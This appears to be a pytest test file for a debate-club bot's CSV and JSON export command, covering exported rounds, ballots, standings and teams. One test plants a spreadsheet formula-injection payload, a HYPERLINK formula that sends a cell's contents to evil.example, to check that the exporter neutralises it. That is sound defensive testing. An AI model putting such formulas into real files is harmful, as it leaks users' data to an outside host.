"""`debate-bot export`: a club's record as CSV files or one JSON file."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from clubfake import BANK, CRITERIA, NIGHT_TRAINS, fake_score
from sqlite_utils import Database

from bot import club
from bot.cli import main
from bot.cli.export import spreadsheet_safe
from bot.storage import open_database

CHAT = -1001
T0 = 1_800_000_000.0
SPEAKERS = {11: "Ada", 12: "Ben"}
JUDGE = 21


def record_round(db: Database, speech: str) -> None:
    """A finished round (Ada speaks, Ben does not, one ballot) and a cancelled one."""
    rnd = club.create_round(db, CHAT, "Club", 1, NIGHT_TRAINS, "open", "practice", CRITERIA,
                            lambda m: m * 60, T0)
    for uid, name in SPEAKERS.items():
        club.join(db, rnd.id, uid, name, "speaker", T0)
    club.join(db, rnd.id, JUDGE, "Judge", "adjudicator", T0)
    club.start(db, rnd.id, T0, seed=77)
    for timer in club.pending(db):
        if timer.kind == "prep_end":
            club.fire_timer(db, timer.id, T0 + 900)
    club.submit_speech(db, rnd.id, 11, speech, "speech", T0 + 950, BANK, fake_score)
    end = next(t for t in club.pending(db) if t.kind == "speeches_end")
    club.fire_timer(db, end.id, T0 + 1200)
    club.set_speaker_bands(db, rnd.id, JUDGE, 11, 4)
    club.set_speaker_bands(db, rnd.id, JUDGE, 12, 2)
    club.set_winner(db, rnd.id, JUDGE, club.load_round(db, rnd.id).participant(11).side, T0)
    club.set_comment(db, rnd.id, JUDGE, "Clear, with one good mechanism")
    club.submit_ballot(db, rnd.id, JUDGE, T0 + 1300)
    other = club.create_round(db, CHAT, "Club", 1, NIGHT_TRAINS, "open", "practice", CRITERIA,
                              lambda m: m * 60, T0 + 2000)
    club.cancel(db, other.id, T0 + 2100)


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    path = tmp_path / "debate.db"
    db = open_database(path)
    record_round(db, "Emissions fall, because rail is clean, and that matters.")
    club.choose_team(db, CHAT, 12, "Ben", "ben", "Owls", T0 + 3000)
    club.choose_team(db, CHAT, 11, "Ada", None, "owls", T0 + 3100)
    db.close()
    return path


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_writes_every_table(db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "export"
    assert main(["export", "--chat", str(CHAT), "--db", str(db_path), "--out", str(out)]) == 0
    printed = capsys.readouterr().out.split()
    assert len(printed) == 6
    rounds = read(out / f"club{CHAT}-rounds.csv")
    assert [(r["stage"], r["draw_seed"], r["decided_by"]) for r in rounds] == [
        ("done", "77", "adjudicators"), ("cancelled", "", "")]
    speeches = read(out / f"club{CHAT}-speeches.csv")
    assert [(s["name"], s["kind"], s["late"], s["team"]) for s in speeches] == [
        ("Ada", "speech", "False", "")]
    assert "rail is clean" in speeches[0]["text"]
    cards = read(out / f"club{CHAT}-scorecards.csv")
    assert {c["criterion"] for c in cards} == {"reasoning", "rebuttal"}
    ballots = read(out / f"club{CHAT}-ballots.csv")
    assert len(ballots) == 4 and {b["comment"] for b in ballots} == {"Clear, with one good mechanism"}
    table = {r["name"]: r for r in read(out / f"club{CHAT}-standings.csv")}
    ada = table["Ada"]
    assert (ada["wins"], ada["average"], ada["avg_reasoning"]) == ("1", "4.0", "4.0")
    assert table["Ben"]["wins"] == "0"
    teams = read(out / f"club{CHAT}-teams.csv")
    assert [(t["team"], t["name"], t["username"]) for t in teams] == [
        ("Owls", "Ben", "ben"), ("owls", "Ada", "")]


def test_json_export_is_one_file(db_path: Path, tmp_path: Path) -> None:
    assert main(["export", "--chat", str(CHAT), "--db", str(db_path), "--format", "json",
                 "--out", str(tmp_path)]) == 0
    data = json.loads((tmp_path / f"club{CHAT}.json").read_text(encoding="utf-8"))
    assert set(data) == {"chat_id", "rounds", "speeches", "scorecards", "ballots", "standings", "teams"}
    assert data["rounds"][0]["winner"] in ("prop", "opp")
    assert data["standings"][0]["name"] == "Ada"


def test_export_errors_say_what_to_do(db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    assert main(["export", "--chat", "-5", "--db", str(db_path), "--out", str(tmp_path)]) == 1
    assert "has no club rounds or teams" in capsys.readouterr().err
    missing = tmp_path / "nope.db"
    assert main(["export", "--chat", str(CHAT), "--db", str(missing)]) == 1
    assert "no database" in capsys.readouterr().err
    assert not missing.exists(), "export must not create a database"


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_cells_that_would_run_as_formulas_are_shown_as_text(tmp_path: Path) -> None:
    path = tmp_path / "debate.db"
    db = open_database(path)
    record_round(db, f"{FORMULA} because rail is clean.")
    club.choose_team(db, CHAT, 11, "@Ada", None, '=HYPERLINK("http://evil.example")', T0 + 3000)
    club.choose_team(db, CHAT, 12, "Ben", None, "+1 Owls", T0 + 3100)
    db.close()
    out = tmp_path / "export"
    assert main(["export", "--chat", str(CHAT), "--db", str(path), "--out", str(out)]) == 0
    speech = read(out / f"club{CHAT}-speeches.csv")[0]
    assert speech["text"] == f"'{FORMULA} because rail is clean."
    teams = read(out / f"club{CHAT}-teams.csv")
    assert [(t["team"], t["name"]) for t in teams] == [
        ("'+1 Owls", "Ben"), ("'=HYPERLINK(\"http://evil.example\")", "'@Ada")]
    for name in ("rounds", "speeches", "scorecards", "ballots", "standings", "teams"):
        with (out / f"club{CHAT}-{name}.csv").open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not [cell for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")], (name, row)
    assert main(["export", "--chat", str(CHAT), "--db", str(path), "--format", "json",
                 "--out", str(out)]) == 0
    data = json.loads((out / f"club{CHAT}.json").read_text(encoding="utf-8"))
    assert data["speeches"][0]["text"].startswith(FORMULA), "JSON is data, kept as typed"


def test_only_text_that_starts_a_formula_is_quoted() -> None:
    for cell in ("=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(cell) == f"'{cell}"
    for kept in (-3, 4.5, "", "Owls", "a=b", " =1", None):
        assert spreadsheet_safe(kept) == kept
